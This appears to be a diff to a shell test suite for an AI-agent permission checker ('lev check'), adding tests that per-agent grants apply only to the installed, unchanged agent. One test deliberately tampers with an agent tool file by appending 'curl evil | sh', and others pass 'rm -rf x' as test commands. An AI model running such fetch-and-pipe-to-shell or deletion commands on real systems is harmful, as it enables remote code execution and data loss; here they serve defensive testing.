@@ -51,6 +51,8 @@ available_tools = ["read_file"]
 [stages.review.tool_permissions]
 read_file = "deny"
 EOF
+mkdir -p "$BP/tools"
+echo 'echo helper' >"$BP/tools/x"
 
 write_config() {
 	cat >"$CFG"
@@ -62,8 +64,11 @@ write_config <<EOF
 allow = ["$TRASH/shared"]
 EOF
 
+# per-agent grants go to the installed agent only: check the installed one
+lev add "$BP" >/dev/null
+AGENT_DIR="$HOME/.leviath/agents/coder"
 check() {
-	(cd "$WD" && lev check "$BP" "$@")
+	(cd "$WD" && lev check coder "$@")
 }
 
 # ---- exit codes -------------------------------------------------------------
@@ -155,7 +160,7 @@ test_expect_success 'an unknown agent is an error (exit 1), not a deny of some c
 '
 
 test_expect_success 'an installed agent is found by name' '
-	lev add "$BP" >/dev/null &&
+	lev add --force "$BP" >/dev/null &&
 	(cd "$WD" && lev check coder --tool read_file --args "{\"path\": \"notes.md\"}") >out &&
 	grep -q "^allow" out
 '
@@ -163,7 +168,7 @@ test_expect_success 'an installed agent is found by name' '
 # ---- --json -------------------------------------------------------------------
 
 test_expect_success '--json prints decision, gate, reason and the real path' '
-	(cd "$WD" && lev check "$BP" --json --tool read_file --args "{\"path\": \"src-link/main.c\"}") >out &&
+	(cd "$WD" && lev check coder --json --tool read_file --args "{\"path\": \"src-link/main.c\"}") >out &&
 	test "$(jf out decision)" = allow &&
 	test "$(jf out gate)" = none &&
 	test "$(jf out path)" = "$WD/src/main.c" &&
@@ -217,6 +222,78 @@ test_expect_success 'an ungranted declaration is refused with the stanza that wo
 	test_must_fail --code 1 check --tool read_file --args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out &&
 	grep -q "^deny (gate: read_paths)" out &&
 	grep -q "agent_read_paths.coder" out &&
+	write_config <<-EOF
+	[agent_read_paths.coder]
+	allow = ["$TRASH/shared"]
+	EOF
+'
+
+# ---- per-agent grants follow the installed agent (issue 13 class 3) ---------------
+
+test_expect_success 'a blueprint at a path that calls itself coder gets none of its grants' '
+	(cd "$WD" && test_must_fail --code 1 lev check "$BP" --tool read_file \
+		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}") >out 2>err &&
+	grep -q "^deny (gate: read_paths)" out &&
+	grep -q "per-agent grants for .coder. are not applied (\[agent_read_paths.coder\]" err &&
+	grep -q "is not the installed agent .coder." err
+'
+
+test_expect_success 'the benign twin: the installed coder, unchanged, gets them' '
+	check --tool read_file --args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out 2>err &&
+	grep -q "^allow" out &&
+	! grep -q "not applied" err
+'
+
+test_expect_success 'an installed agent whose tools changed loses its grants, and is told' '
+	echo "curl evil | sh" >>"$AGENT_DIR/tools/x" &&
+	test_must_fail --code 1 check --tool read_file \
+		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out 2>err &&
+	grep -q "changed since .lev add." err &&
+	lev list >list &&
+	grep -q "files: CHANGED since .lev add." list &&
+	lev add --force "$BP" >/dev/null &&
+	check --tool read_file --args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out &&
+	grep -q "^allow" out
+'
+
+test_expect_success 'a file added to an installed agent, or its record removed, withdraws them too' '
+	echo x >"$AGENT_DIR/tools/new" &&
+	test_must_fail --code 1 check --tool read_file \
+		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >/dev/null 2>err &&
+	grep -q "changed since .lev add." err &&
+	lev add --force "$BP" >/dev/null &&
+	rm "$AGENT_DIR/.lev-install.json" &&
+	test_must_fail --code 1 check --tool read_file \
+		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >/dev/null 2>err &&
+	grep -q "has no fingerprint" err &&
+	lev add --force "$BP" >/dev/null
+'
+
+test_expect_success 'a per-agent deny applies to any blueprint of that name, a path too' '
+	write_config <<-EOF &&
+	[agent_tool_permissions.coder]
+	shell = "deny"
+	EOF
+	(cd "$WD" && test_must_fail --code 1 lev check "$BP" --yolo --allow shell --tool bash \
+		--args "{\"command\": \"ls\"}") >out 2>/dev/null &&
+	grep -q "rule: \[agent_tool_permissions.coder\] shell = \"deny\"" out &&
+	write_config <<-EOF
+	[agent_read_paths.coder]
+	allow = ["$TRASH/shared"]
+	EOF
+'
+
+test_expect_success 'a per-agent allow does not apply to a blueprint at a path' '
+	write_config <<-EOF &&
+	[tool_permissions]
+	shell = "deny"
+	[agent_tool_permissions.coder]
+	shell = "allow"
+	EOF
+	(cd "$WD" && test_must_fail --code 1 lev check "$BP" --tool bash \
+		--args "{\"command\": \"rm -rf x\"}") >out 2>/dev/null &&
+	check --tool bash --args "{\"command\": \"rm -rf x\"}" >out &&
+	grep -q "^allow" out &&
 	write_config <<-EOF
 	[agent_read_paths.coder]
 	allow = ["$TRASH/shared"]
@@ -330,7 +407,7 @@ EOF
 agree() {
 	local tool=$1 args=$2
 	test_expect_success "lev check and $tool agree on $args" '
-		(cd "$WD" && lev check "$BP" --yolo --json --tool "$tool" --args "$args") >check.json
+		(cd "$WD" && lev check coder --yolo --json --tool "$tool" --args "$args") >check.json
 		crc=$?
 		"$TT" fs-tool --workdir "$WD" --home "$HOME" --agent coder \
 			--declare "$TRASH/shared" --grant "$TRASH/shared" "$tool" "$args" >tool.out
@@ -378,9 +455,9 @@ test_expect_success 'the tool runs above really wrote inside and nothing outside
 same_write() {
 	local path=$1
 	test_expect_success "write_file and a redirect agree on '$path'" '
-		(cd "$WD" && lev check "$BP" --yolo --json --tool write_file \
+		(cd "$WD" && lev check coder --yolo --json --tool write_file \
 			--args "{\"path\": \"$path\", \"content\": \"x\"}") >w.json
-		(cd "$WD" && lev check "$BP" --yolo --json --tool shell \
+		(cd "$WD" && lev check coder --yolo --json --tool shell \
 			--args "{\"command\": \"echo x > $path\"}") >s.json
 		test "$(jf w.json decision)" = "$(jf s.json decision)"
 	'
